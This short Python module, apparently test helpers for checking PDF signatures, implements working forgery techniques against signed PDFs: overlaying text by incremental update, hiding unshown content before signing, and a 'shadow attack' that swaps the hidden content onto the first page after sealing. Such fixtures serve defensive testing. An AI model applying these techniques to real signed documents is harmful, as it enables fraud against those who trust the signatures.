"""What forgers do to a PDF with any PDF program."""

from io import BytesIO

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter


def with_text(pdf: bytes, text: bytes) -> bytes:
    """Lay text over the first page by an incremental update, as any PDF program does."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    over = generic.StreamObject(stream_data=b"q BT /F1 40 Tf 100 400 Td (" + text + b") Tj ET Q")
    writer.add_stream_to_page(0, writer.add_object(over))
    stream = BytesIO()
    writer.write(stream)
    return stream.getvalue()


def with_hidden(pdf: bytes) -> bytes:
    """Put content into a file, before it is sealed, that no page shows."""
    with pikepdf.open(BytesIO(pdf)) as document:
        document.Root.Hidden = document.make_indirect(document.make_stream(b"0 0 0 rg 0 0 600 800 re f"))
        stream = BytesIO()
        document.save(stream)
    return stream.getvalue()


def hidden_shown(sealed: bytes) -> bytes:
    """Show the hidden content on the first page, after the file was sealed: a shadow attack."""
    writer = IncrementalPdfFileWriter(BytesIO(sealed))
    page = writer.root["/Pages"]["/Kids"][0]
    page[generic.pdf_name("/Contents")] = writer.root.raw_get("/Hidden")
    writer.update_container(page)
    stream = BytesIO()
    writer.write(stream)
    return stream.getvalue()
